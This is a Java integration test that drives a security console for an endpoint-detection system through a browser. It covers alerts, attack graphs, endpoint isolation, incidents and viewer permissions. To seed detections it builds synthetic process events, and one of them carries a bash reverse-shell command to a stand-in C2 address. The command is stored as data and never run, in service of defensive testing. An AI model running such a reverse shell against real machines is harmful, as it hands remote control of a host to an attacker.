package dev.kiroku.it.console;

import dev.kiroku.event.Event;
import dev.kiroku.event.NetworkActivity;
import dev.kiroku.event.ProcessInfo;
import dev.kiroku.event.ProcessStart;
import dev.kiroku.response.lab.NetworkNamespace;
import dev.kiroku.it.ServerRest;
import dev.kiroku.server.KirokuServer;
import dev.kiroku.server.ServerConfig;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The issue's browser walk-through with Playwright (npm {@code playwright-core} driving Debian's Chromium, script
 * {@code it/src/test/playwright/console.e2e.mjs}) against a real server and a real agent: sign in, live events,
 * an alert walked through its graph to the root cause, a cross-endpoint edge, investigate from a C2 address, isolate
 * the endpoint and see its state change, close the incident and download its report, a viewer refused an action.
 * Screenshots of every page are kept in {@code it/target/playwright/}.
 *
 * <p>The agent runs as its own process inside a network namespace this test creates, so isolating it changes only
 * that namespace; it reaches the server's fleet port through a Unix-socket relay (sockets are files, so they cross
 * namespaces). It runs its file sensor (fanotify on the test's directory) and socket inventory, not audit.
 */
class ConsolePlaywrightTest {
    private static final Path PLAYWRIGHT = Path.of("src/test/playwright").toAbsolutePath();
    private static final Path ARTIFACTS = Path.of("target/playwright").toAbsolutePath();
    private static final String C2 = "198.51.100.7";

    @Test
    void theIssuesWalkThroughPassesInARealBrowser(@TempDir Path work) throws Exception {
        Assumptions.assumeTrue("root".equals(System.getProperty("user.name")), "needs root: the agent runs in its own network namespace");
        Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/chromium")), "Debian's chromium is not installed (./kiroku test installs it)");
        Assumptions.assumeTrue(executable("node"), "node is not installed (./kiroku test installs Debian's nodejs)");
        installPlaywright();
        Files.createDirectories(ARTIFACTS);

        String suffix = Long.toString(ProcessHandle.current().pid());
        List<Process> started = new ArrayList<>();
        try (NetworkNamespace endpointNet = NetworkNamespace.create("kiroku-console-" + suffix);
             KirokuServer server = new KirokuServer(new ServerConfig(work.resolve("server"), "127.0.0.1", 0, Duration.ofDays(30))
                     .withFleetPort(0).withOfflineAfter(Duration.ofSeconds(20)), InstantSource.system()).start()) {
            String[] admin = Files.readString(server.credentialsFile()).trim().split(":", 2);
            String base = server.url();
            seedAttack(server);
            api(server, admin, "POST", "/api/v1/users", "{\"name\":\"vera\",\"role\":\"viewer\",\"password\":\"viewer-password-123\"}");

            // The agent's way to the server: TCP 127.0.0.1:7751 in its namespace → Unix socket → the fleet port here.
            Path socket = work.resolve("fleet.sock");
            started.add(node(work, "relay-host", List.of(), "relay.mjs", "unix-listen", socket.toString(), "127.0.0.1", "" + server.fleet().port()));
            await().atMost(Duration.ofSeconds(20)).until(() -> Files.exists(socket));
            started.add(node(work, "relay-endpoint", List.of("ip", "netns", "exec", endpointNet.name()), "relay.mjs", "tcp-listen", "7751", socket.toString()));
            Path watched = Files.createDirectories(work.resolve("watched"));
            String token = server.fleet().createToken(Duration.ofMinutes(10), "default", "console-test");
            started.add(agent(work, endpointNet.name(), token, watched));
            String agentId = await().atMost(Duration.ofSeconds(90)).until(() -> server.fleet().endpoints().stream()
                    .filter(e -> "online".equals(e.get("status"))).map(e -> String.valueOf(e.get("agentId"))).findFirst().orElse(null),
                    id -> id != null);

            Process e2e = node(work, "console-e2e", List.of(), Map.of(
                    "KIROKU_URL", base, "KIROKU_ADMIN", admin[0], "KIROKU_ADMIN_PASSWORD", admin[1],
                    "KIROKU_VIEWER", "vera", "KIROKU_VIEWER_PASSWORD", "viewer-password-123",
                    "KIROKU_AGENT", agentId, "KIROKU_WATCHED", watched.toString(), "KIROKU_C2", C2,
                    "KIROKU_ARTIFACTS", ARTIFACTS.toString()), "console.e2e.mjs");
            started.add(e2e);
            boolean finished = e2e.waitFor(10, TimeUnit.MINUTES);
            String log = Files.readString(work.resolve("console-e2e.log"));
            Files.writeString(ARTIFACTS.resolve("console-e2e.log"), log);
            System.out.println(log);
            assertThat(finished).as("the Playwright walk-through finished within 10 minutes:\n" + log).isTrue();
            assertThat(e2e.exitValue()).as("the Playwright walk-through passed:\n" + log).isZero();
            assertThat(log).contains("PASS isolate", "PASS viewer refused", "PASS incident closed",
                    "PASS rules: problems by line, tested on history, added", "PASS policies: a dry-run policy added",
                    "PASS yara sweep: progress per endpoint and a hit", "PASS trials: an indicator file and a YARA set tried before use",
                    "PASS every page interactive: timed in the browser");
            for (String page : List.of("overview", "endpoint-isolated", "alert", "graph-root-cause", "graph-cross-endpoint",
                    "investigate-c2", "incident-closed", "rule-tested", "policies", "yara-sweep", "indicator-tested", "yara-trial", "viewer-refused")) {
                assertThat(ARTIFACTS.resolve(page + ".png")).as("screenshot of " + page).isNotEmptyFile();
            }
            assertThat(server.fleet().endpoints().stream().filter(e -> agentId.equals(e.get("agentId"))).findFirst().orElseThrow()
                    .get("inventory").toString()).as("released again at the end of the walk-through").contains("isolation=not isolated");
        } finally {
            for (Process p : started.reversed()) {
                p.destroy();
                if (!p.waitFor(20, TimeUnit.SECONDS)) p.destroyForcibly().waitFor();
            }
        }
    }

    /**
     * A reverse shell to the C2 on web-1 (alerts, an incident, an address to investigate) and an ssh session from
     * web-1 into db-2 (the cross-endpoint edge), through the server's real ingest, detection and store.
     */
    private static void seedAttack(KirokuServer server) throws Exception {
        Instant now = Instant.now();
        ProcessInfo sshd = process("e-sshd", 900, null, "/usr/sbin/sshd", List.of("sshd: alice [priv]"));
        ProcessInfo shell = process("e-shell", 5100, sshd, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/" + C2 + "/4444 0>&1"));
        ProcessInfo ssh = process("e-ssh", 5300, shell, "/usr/bin/ssh", List.of("ssh", "alice@10.0.0.12"));
        ProcessInfo dbSshd = process("e-db-sshd", 700, null, "/usr/sbin/sshd", List.of("/usr/sbin/sshd", "-D"));
        ProcessInfo dbShell = process("e-db-bash", 7100, dbSshd, "/usr/bin/bash", List.of("-bash"));
        List<Event> web = List.of(
                new Event("agent-web-1", 1, now, "web-1", List.of(), new ProcessStart(sshd, false)),
                new Event("agent-web-1", 2, now.plusMillis(2), "web-1", List.of(), new ProcessStart(shell, false)),
                new Event("agent-web-1", 3, now.plusMillis(4), "web-1", List.of(),
                        new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", "10.0.0.11", 40100, C2, 4444, true, shell)),
                new Event("agent-web-1", 4, now.plusMillis(6), "web-1", List.of(), new ProcessStart(ssh, false)),
                new Event("agent-web-1", 5, now.plusMillis(8), "web-1", List.of(),
                        new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", "10.0.0.11", 51000, "10.0.0.12", 22, true, ssh)));
        List<Event> db = List.of(
                new Event("agent-db-2", 1, now.minusSeconds(60), "db-2", List.of(), new ProcessStart(dbSshd, false)),
                new Event("agent-db-2", 2, now.minusSeconds(59), "db-2", List.of(),
                        new NetworkActivity(NetworkActivity.Action.LISTEN, "tcp", "0.0.0.0", 22, null, 0, false, dbSshd)),
                new Event("agent-db-2", 3, now.plusMillis(9), "db-2", List.of(),
                        new NetworkActivity(NetworkActivity.Action.ACCEPT, "tcp", "10.0.0.12", 22, "10.0.0.11", 51000, false, dbSshd)),
                new Event("agent-db-2", 4, now.plusMillis(20), "db-2", List.of(), new ProcessStart(dbShell, false)));
        server.ingest().deliver(web);
        server.ingest().deliver(db);
    }

    private static ProcessInfo process(String entity, int pid, ProcessInfo parent, String executable, List<String> args) {
        ProcessInfo.ParentRef parentRef = parent == null ? null
                : new ProcessInfo.ParentRef(parent.entityId(), parent.pid(), parent.executable(), parent.args());
        return new ProcessInfo(entity, pid, Instant.now(), parentRef, executable, args, "/root", null,
                new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
    }

    private static Process agent(Path work, String namespace, String token, Path watched) throws IOException {
        List<String> command = new ArrayList<>(List.of("ip", "netns", "exec", namespace,
                Path.of(System.getProperty("java.home"), "bin", "java").toString(), "--enable-native-access=ALL-UNNAMED", "-Xmx256m",
                "-cp", System.getProperty("java.class.path"), "dev.kiroku.cli.Main", "agent", "--data", work.resolve("agent").toString(),
                "--server", "127.0.0.1:7751", "--token", token, "--host-name", "web-e2e", "--watch", watched.toString(), "--heartbeat", "2s",
                // File events are what the walk-through watches; without audit the test needs no machine-wide audit lock.
                "--sensors", "fanotify,socket_inventory"));
        return new ProcessBuilder(command).redirectErrorStream(true).redirectOutput(work.resolve("agent.log").toFile()).start();
    }

    private static Process node(Path work, String name, List<String> prefix, String script, String... args) throws IOException {
        return node(work, name, prefix, Map.of(), script, args);
    }

    private static Process node(Path work, String name, List<String> prefix, Map<String, String> env, String script, String... args)
            throws IOException {
        List<String> command = new ArrayList<>(prefix);
        command.addAll(List.of("node", PLAYWRIGHT.resolve(script).toString()));
        command.addAll(List.of(args));
        ProcessBuilder builder = new ProcessBuilder(command).directory(PLAYWRIGHT.toFile()).redirectErrorStream(true)
                .redirectOutput(work.resolve(name + ".log").toFile());
        builder.environment().putAll(env);
        return builder.start();
    }

    /** {@code npm ci} when playwright-core is not installed yet (./kiroku test does it before the build). */
    private static void installPlaywright() throws IOException, InterruptedException {
        if (Files.isDirectory(PLAYWRIGHT.resolve("node_modules/playwright-core"))) return;
        Assumptions.assumeTrue(executable("npm"), "playwright-core is not installed and npm is missing (./kiroku test installs both)");
        Process npm = new ProcessBuilder("npm", "ci", "--no-audit", "--no-fund").directory(PLAYWRIGHT.toFile())
                .redirectErrorStream(true).start();
        String output = new String(npm.getInputStream().readAllBytes());
        assertThat(npm.waitFor()).as("npm ci in " + PLAYWRIGHT + ":\n" + output).isZero();
    }

    private static boolean executable(String name) {
        for (String dir : System.getenv().getOrDefault("PATH", "/usr/bin:/bin").split(":")) {
            if (Files.isExecutable(Path.of(dir, name))) return true;
        }
        return false;
    }

    private static void api(KirokuServer server, String[] user, String method, String path, String body) throws Exception {
        HttpResponse<String> response = ServerRest.client(server).send(HttpRequest.newBuilder(URI.create(server.url() + path))
                .header("Authorization", "Basic " + Base64.getEncoder().encodeToString((user[0] + ":" + user[1]).getBytes()))
                .header("Content-Type", "application/json").method(method, HttpRequest.BodyPublishers.ofString(body)).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(response.statusCode()).as(method + " " + path + ": " + response.body()).isBetween(200, 299);
    }

}
